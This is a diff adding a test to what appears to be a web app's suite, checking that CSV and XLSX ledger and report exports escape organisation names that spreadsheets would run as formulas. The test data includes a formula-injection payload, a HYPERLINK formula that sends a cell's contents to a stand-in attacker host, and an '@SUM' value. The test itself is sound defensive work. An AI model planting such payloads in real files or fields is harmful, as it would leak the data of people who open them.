@@ -61,3 +61,31 @@ def test_only_patent_holders_may_import(client, app, make, as_user):
                            content_type="multipart/form-data")
     assert response.status_code == 403
     assert db.session.scalar(db.select(db.func.count(ImportJob.id))) == 0
+
+
+def test_exports_defuse_names_a_spreadsheet_would_run_as_formulas(client, app, make, as_user, operator):
+    import csv
+    import io
+    from datetime import date
+
+    from openpyxl import load_workbook
+
+    from marketplace.accounts.models import OrgKind
+
+    from .indicators.conftest import conclude
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    with app.test_request_context():
+        holder = make.org(OrgKind.university, name=evil)
+        firm = make.org(OrgKind.enterprise, name="@SUM(1+1)")
+        conclude("transfer", date(2025, 3, 1), "100000", holder=holder, counterparty=firm, beneficiary=firm)
+        db.session.commit()
+    as_user(operator)
+    ledger = client.get("/operator/ledger.csv").data.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(ledger)) for cell in row]
+    assert "'" + evil in cells and "'@SUM(1+1)" in cells and evil not in cells
+    report = client.get("/operator/indicators/report.csv?year=2025&sheet=entries").data.decode("utf-8-sig")
+    assert "'" + evil in [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+    book = load_workbook(io.BytesIO(client.get("/operator/indicators/report.xlsx?year=2025").data))
+    values = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert "'" + evil in values and evil not in values
